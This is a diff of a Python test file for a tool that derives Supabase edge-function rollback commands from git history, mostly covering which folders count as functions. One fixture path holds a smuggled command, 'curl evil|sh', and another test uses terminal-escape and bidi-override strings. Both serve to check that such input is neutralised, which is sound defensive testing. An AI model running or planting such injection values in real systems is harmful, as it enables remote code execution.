@@ -379,6 +379,82 @@ def subcommand(cmd: list[str]) -> str:
     return next(a for a in cmd if a in ("log", "cat-file"))
 
 
+@pytest.mark.parametrize("folder", ["shared", "utils", "_utils", "lib-common"])
+def test_a_folder_without_an_entrypoint_is_shared_code(tmp_path: Path, folder: str) -> None:
+    # `Y` must not copy `supabase functions deploy utils` for a function that does not exist.
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=1), {"supabase/functions/send-sms/index.ts": "v1"})
+    first = commit(repo, "a function", NOW - timedelta(minutes=30), {"supabase/functions/send-sms/x.ts": "1"})
+    commit(repo, "helpers", NOW - timedelta(minutes=5), {f"supabase/functions/{folder}/db.ts": "x"})
+    c = snapshot(repo).commits[0]
+    assert c.functions == () and c.touches_shared_functions and c.marks == ("functions",)
+    assert function_rollback_commands(c) == [f"git checkout {first}", "supabase functions deploy"]
+
+
+def test_a_function_is_a_folder_with_an_entrypoint_at_that_commit(tmp_path: Path) -> None:
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=2), {"README.md": "hi"})
+    # Entrypoints in any of the names Supabase bundles; a change to any file of the folder counts.
+    commit(
+        repo,
+        "entrypoints",
+        NOW - timedelta(minutes=50),
+        {
+            "supabase/functions/a-ts/index.ts": "x",
+            "supabase/functions/b-js/index.js": "x",
+            "supabase/functions/c-tsx/index.tsx": "x",
+            "supabase/functions/d-mjs/index.mjs": "x",
+            "supabase/functions/e-jsx/index.jsx": "x",
+        },
+    )
+    commit(repo, "helper only", NOW - timedelta(minutes=40), {"supabase/functions/b-js/util.js": "y"})
+    # A folder that becomes a function later is shared code until it has its entrypoint.
+    commit(repo, "new fn, step 1", NOW - timedelta(minutes=30), {"supabase/functions/later/util.ts": "u"})
+    commit(repo, "new fn, step 2", NOW - timedelta(minutes=20), {"supabase/functions/later/index.ts": "i"})
+    # Deleting a function: at that commit it holds no entrypoint, so every function is redeployed
+    # (which brings the deleted one back after `git checkout <parent>`).
+    commit(repo, "drop c", NOW - timedelta(minutes=10), delete=("supabase/functions/c-tsx/index.tsx",))
+    # Shared code and a function together: the rollback redeploys every function.
+    commit(
+        repo,
+        "mixed",
+        NOW - timedelta(minutes=5),
+        {"supabase/functions/_shared/db.ts": "s", "supabase/functions/a-ts/index.ts": "z"},
+    )
+    subj = by_subject(snapshot(repo))
+    assert subj["entrypoints"].functions == ("a-ts", "b-js", "c-tsx", "d-mjs", "e-jsx")
+    assert not subj["entrypoints"].touches_shared_functions
+    assert subj["helper only"].functions == ("b-js",) and not subj["helper only"].touches_shared_functions
+    assert subj["new fn, step 1"].functions == () and subj["new fn, step 1"].touches_shared_functions
+    assert subj["new fn, step 2"].functions == ("later",)
+    assert not subj["new fn, step 2"].touches_shared_functions
+    assert subj["drop c"].functions == () and subj["drop c"].touches_shared_functions
+    mixed = subj["mixed"]
+    assert mixed.functions == ("a-ts",) and mixed.touches_shared_functions
+    cmds = function_rollback_commands(mixed)
+    assert cmds is not None and cmds[1:] == ["supabase functions deploy"]
+    cmds = function_rollback_commands(subj["helper only"])
+    assert cmds is not None and cmds[1:] == ["supabase functions deploy b-js"]
+
+
+def test_entrypoints_are_looked_up_once_per_commit_in_one_process(
+    tmp_path: Path, git_calls: list[tuple[list[str], int]]
+) -> None:
+    repo = init_repo(tmp_path / "r")
+    commit(repo, "init", NOW - timedelta(hours=1), {"a": "1"})
+    for i in range(6):
+        fn = f"supabase/functions/fn{i}"
+        commit(repo, f"c{i}", NOW - timedelta(minutes=50 - i), {f"{fn}/index.ts": "x", f"{fn}/u.ts": "u"})
+    first = snapshot(repo)
+    assert [c.functions for c in first.commits[:6]] == [(f"fn{i}",) for i in range(5, -1, -1)]
+    # One walk, one read of the commits not seen, one listing of their paths, one lookup of the
+    # entrypoints of every function folder they touched.
+    assert [subcommand(cmd) for cmd, _ in git_calls] == ["log", "log", "log", "cat-file"]
+    git_calls.clear()
+    assert snapshot(repo) == first
+    assert [subcommand(cmd) for cmd, _ in git_calls] == ["log"]  # known commits: the walk only
+
+
 def test_deploy_tags_off_never_asks_git_for_tags(
     project: dict, git_calls: list[tuple[list[str], int]]
 ) -> None:
@@ -407,9 +483,11 @@ def test_hostile_paths_never_reach_a_command(tmp_path: Path) -> None:
         {"supabase/functions/x;curl evil|sh/index.ts": "x", "supabase/functions/ok-fn/index.ts": "y"},
     )
     c = snapshot(repo).commits[0]
-    assert c.functions == ("ok-fn",)
+    # A folder whose name no function can have is not a function, whatever it holds: it counts as
+    # shared code, so the rollback redeploys every function and names none.
+    assert c.functions == ("ok-fn",) and c.touches_shared_functions
     cmds = function_rollback_commands(c)
-    assert cmds is not None and cmds[1:] == ["supabase functions deploy ok-fn"]
+    assert cmds is not None and cmds[1:] == ["supabase functions deploy"]
     assert not any(";" in cmd or "|" in cmd for cmd in cmds)
 
 
@@ -522,11 +600,11 @@ def test_untrusted_text_is_cleaned(tmp_path: Path) -> None:
         repo,
         "\x1b[2J\x1b]0;pwned\x07 deploy \u202eevil\u202c [bold]x[/bold]",
         NOW - timedelta(minutes=1),
-        {"supabase/functions/f/\x1b[31mx.ts": "x"},
+        {"supabase/functions/f/\x1b[31mx.ts": "x", "supabase/functions/f/index.ts": "x"},
     )
     c = snapshot(repo).commits[0]
     assert c.subject == "deploy evil [bold]x[/bold]"
-    assert c.paths == ("supabase/functions/f/x.ts",)
+    assert c.paths == ("supabase/functions/f/x.ts", "supabase/functions/f/index.ts")
     assert all("\x1b" not in p for p in c.paths)
     assert c.functions == ("f",)
 
